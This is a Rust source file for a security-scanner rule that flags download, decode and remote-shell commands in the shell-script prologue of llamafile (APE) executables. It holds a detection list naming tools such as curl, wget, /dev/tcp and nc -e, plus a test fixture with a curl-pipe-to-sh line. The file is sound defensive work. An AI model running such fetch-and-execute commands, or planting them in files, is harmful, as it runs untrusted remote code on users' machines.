//! The shell part of a llamafile.

use ma_core::{Evidence, Issue, declare_rule};

use crate::parse::shown;

declare_rule! {
    /// ## What it finds
    /// `curl`, `wget`, `base64 -d`, `/dev/tcp/` or `nc -e` in the shell script at the start of an APE
    /// file.
    /// ## Why it matters
    /// On Linux and macOS the start of such a file is a shell script that runs before anything else.
    /// The genuine one finds or unpacks its loader; it never asks the network.
    /// ## What it leaves alone
    /// The genuine loader script.
    /// ## What to do
    /// Do not run the file.
    pub static LLAMAFILE_SHELL = {
        code: "GUF043", name: "llamafile-shell-download", severity: Critical,
        title: "The shell part of an APE file fetches or decodes something",
        references: [Cwe(494), Cwe(506), Spec("https://justine.lol/ape.html")],
    }
}

/// What the genuine script never does.
const SIGNS: &[&str] = &[
    "curl ",
    "wget ",
    "base64 -d",
    "base64 --decode",
    "/dev/tcp/",
    "nc -e ",
    "ncat ",
    "python -c",
    "python3 -c",
    "perl -e",
    "eval \"$(",
    "| sh",
    "|sh",
    "| bash",
    "|bash",
];

/// Fires on the first of each sign in the first bytes of the file.
#[must_use]
pub fn check(head: &[u8]) -> Vec<Issue> {
    let fired = SIGNS.iter().filter_map(|sign| {
        let bytes = sign.as_bytes();
        let at = head.windows(bytes.len()).position(|w| w == bytes)?;
        let before = at.checked_sub(1).and_then(|i| head.get(i));
        if bytes.first().is_some_and(u8::is_ascii_alphabetic)
            && before.is_some_and(u8::is_ascii_alphanumeric)
        {
            return None;
        }
        let line = line_at(head, at)?;
        let end = (at as u64).saturating_add(bytes.len() as u64);
        let message = format!("The shell part of the file holds `{}`", sign.trim());
        Some(
            Issue::new(&LLAMAFILE_SHELL, message)
                .at(at as u64..end)
                .evidence(Evidence::code("line", shown(&line))),
        )
    });
    fired.collect()
}

/// The line around `at`, when it is text.
fn line_at(head: &[u8], at: usize) -> Option<String> {
    let start = head.get(..at)?.iter().rposition(|b| *b == b'\n');
    let start = start.map_or(0, |i| i.saturating_add(1));
    let rest = head.get(start..)?;
    let end = rest.iter().position(|b| *b == b'\n').unwrap_or(rest.len());
    let line = rest.get(..end)?;
    let text = line.iter().all(|b| *b == b'\t' || (0x20..0x7f).contains(b));
    text.then(|| String::from_utf8_lossy(line).into_owned())
}

#[cfg(test)]
mod tests {
    use super::check;

    #[test]
    fn fires_on_downloads() {
        let genuine = b"MZqFpD='\n\0\x01' <<'@'\n@\nset -- \"$0\" \"$@\"\nexec \"$o\"\n";
        assert_eq!(check(genuine).len(), 0);
        let evil = b"MZqFpD='\n\0'\ncurl -s http://127.0.0.1/x | sh\n";
        assert_eq!(check(evil).len(), 2);
        assert_eq!(check(b"\0\x01curl \x02").len(), 0, "no text");
    }
}
